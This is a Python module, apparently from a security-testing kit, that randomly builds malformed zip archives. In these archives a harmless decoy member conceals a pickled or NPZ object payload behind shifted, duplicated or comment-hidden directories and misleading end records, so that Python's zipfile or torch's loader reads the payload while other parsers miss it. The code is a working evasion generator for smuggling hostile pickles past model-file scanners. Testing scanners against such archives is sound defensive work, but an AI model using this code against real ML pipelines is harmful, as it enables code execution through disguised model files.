"""Zip archives whose structures disagree, and who reads them.

A harmless member holds another archive's parts as its data, directories are
shifted, cut, repeated and hidden in comments, end records of both kinds point
anywhere, other bytes stand in front and behind.
"""

import io
import struct
import zipfile
import zlib

from attacks.kit import pickled
from attacks.numpyfiles import OBJECTS, header, npy

try:
    import torch
except ImportError:
    torch = None

ENTRY = 46  # bytes of an entry of the directory before its name


class Kind:
    """The names and contents of one kind of archive."""

    def __init__(self, decoy, evil, payload, plain, more=()):
        self.decoy, self.evil, self.payload, self.plain = decoy, evil, payload, plain
        self.more = more  # members that its readers ask for


def array(data):
    return npy(header("'|u1'", "(%d,)" % len(data)), data)


NPZ = Kind(b"a.npy", b"a.npy", OBJECTS, array)
TORCH = Kind(b"m/data/0", b"m/data.pkl", pickled(), bytes, [(b"m/version", b"3\n")])


def deflated(data):
    return zlib.compress(data)[2:-4]


def local(name, data, method=0):
    packed = deflated(data) if method else data
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, zlib.crc32(data), len(packed), len(data), len(name), 0) + name + packed


def central(name, data, offset, comment=b"", method=0):
    size = len(deflated(data)) if method else len(data)
    head = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, zlib.crc32(data), size, len(data),
                       len(name), 0, len(comment), 0, 0, 0, offset & 0xFFFFFFFF)
    return head + name + comment


def ending(count, size, offset, comment=b""):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size & 0xFFFFFFFF, offset & 0xFFFFFFFF, len(comment)) + comment


def ending64(count, size, offset):
    return struct.pack("<IQHHIIQQqq", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, offset)


def locator(offset):
    return struct.pack("<IIqI", 0x07064B50, 0, offset, 1)


FRONTS = [b""] * 4 + [b"GGUF\3\0\0\0" + bytes(8), ending(0, 0, 0), b"PK\3\4", b"\x80\x02}.", local(b"z", b"1")]
SMALL = local(b"q", b"}.") + central(b"q", b"}.", 0) + ending(1, ENTRY + 1, 33)


class Maker:
    """One archive; each choice is random."""

    def __init__(self, rng):
        self.rng, self.pick = rng, rng.choice
        self.kind = self.pick([NPZ, NPZ, TORCH])
        self.method = self.pick([0, 0, 8])
        self.entry = sum(ENTRY + len(name) for name in [self.kind.evil, *(name for name, _ in self.kind.more)])
        self.count = 1 + len(self.kind.more)
        self.gap = self.pick([0, 0, self.entry, self.entry, 76, 56, 20, 2 * self.entry, rng.randrange(200)])
        self.front = self.pick(FRONTS)
        self.shift = self.pick([0, self.gap, self.gap, -self.gap, len(self.front)])
        self.based = self.pick([0, len(self.front)])  # where offsets count from

    def listed(self, at, comment=b""):
        """The hidden directory: what stands in front of the payload, and that."""
        out = b""
        for name, data in self.kind.more:
            out += central(name, data, at - len(self.more()) - self.shift)
        return out + central(self.kind.evil, self.kind.payload, at - self.shift, comment, self.method)

    def more(self):
        return b"".join(local(name, data) for name, data in self.kind.more)

    def hidden(self, start):
        """The data of the harmless member, and where the payload's header stands."""
        pad = bytes(self.pick([64, 128, 200]))
        at = start + len(pad + self.more())
        out = pad + self.more() + local(self.kind.evil, self.kind.payload, self.method)
        self.inner = start + len(out)
        if self.pick([False, True]):
            out += self.listed(at)
            if self.pick([False, True]):
                out += ending(self.count, self.entry, self.inner - self.shift)
        return out + bytes(self.pick([0, 64])), at

    def member(self):
        """The harmless member, which stands behind the front."""
        state = self.rng.getstate()
        data, _ = self.hidden(0)
        start = len(self.front) + len(local(self.kind.decoy, self.kind.plain(data))) - len(data)
        self.rng.setstate(state)
        data, self.at = self.hidden(start)
        return self.kind.plain(data)

    def directory(self, data):
        comment = self.pick([b"", b"", self.listed(self.at, bytes(self.gap))[: self.entry], self.listed(self.at), bytes(self.gap)])
        out = central(self.kind.decoy, data, len(self.front) - self.based, comment)
        return out + self.pick([b"", b"", b"", self.listed(self.at)])

    def endings(self, at, start, size):
        """The records behind a directory that begins at start; the first stands at at."""
        offset = start - self.based
        size = self.pick([size] * 6 + [self.entry, 2 * self.entry, size + self.gap, 0])
        others = [offset - self.gap, offset + self.gap, self.inner, self.inner - self.shift, 0, offset + self.entry]
        where = self.pick([offset] * 6 + others)
        count, wide = self.pick([self.count] * 3 + [1, 2, 3, 0]), b""
        if self.pick([False, False, True]):
            wide = ending64(count, self.pick([size, size, self.entry]), self.pick([where, offset, self.inner - self.shift]))
            wide += bytes(self.pick([0, 0, 0, 8, 20, 76])) + locator(self.pick([at, at, at - self.based, self.inner + self.entry, 0]))
            if self.pick([False, True]):
                count, size, where = 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF
        comment = self.pick([b"", b"", b"", b"hello", ending(1, size, where), bytes(22)])
        return wide + ending(count, size, where, comment)

    def make(self):
        data = self.member()
        out = self.front + local(self.kind.decoy, data) + bytes(self.pick([0, 0, 0, 8]))
        start = len(out)
        directory = self.directory(data)
        out += directory + self.pick([bytes(self.gap)] * 4 + [b" " * self.gap, self.listed(self.at)])
        out += self.endings(len(out), start, len(directory))
        out += self.pick([b""] * 5 + [bytes(4), b"junk", ending(0, 0, 0)])
        out = self.pick([out] * 6 + [out + SMALL, SMALL + out])
        if self.pick([False, False, True]):
            out = bytearray(out)
            out[self.rng.randrange(len(out))] = self.pick([0, 1, self.entry, 255])
        return bytes(out)


def python_members(data):
    """What zipfile reads, also where a checksum is wrong: readers of a stream see
    that at its end."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except Exception:
        return
    for info in archive.infolist():
        try:
            with archive.open(info) as f:
                f._expected_crc = None
                yield f.read()
        except Exception:
            pass


def torch_members(data):
    if torch is None or data[:4] != b"PK\3\4":  # torch.load asks
        return
    try:
        yield torch._C.PyTorchFileReader(io.BytesIO(data)).get_record("data.pkl")
    except Exception:
        pass


PAYLOADS = {NPZ.payload, TORCH.payload}
READERS = {"zipfile": python_members, "torch": torch_members}


def make(rng):
    return Maker(rng).make()
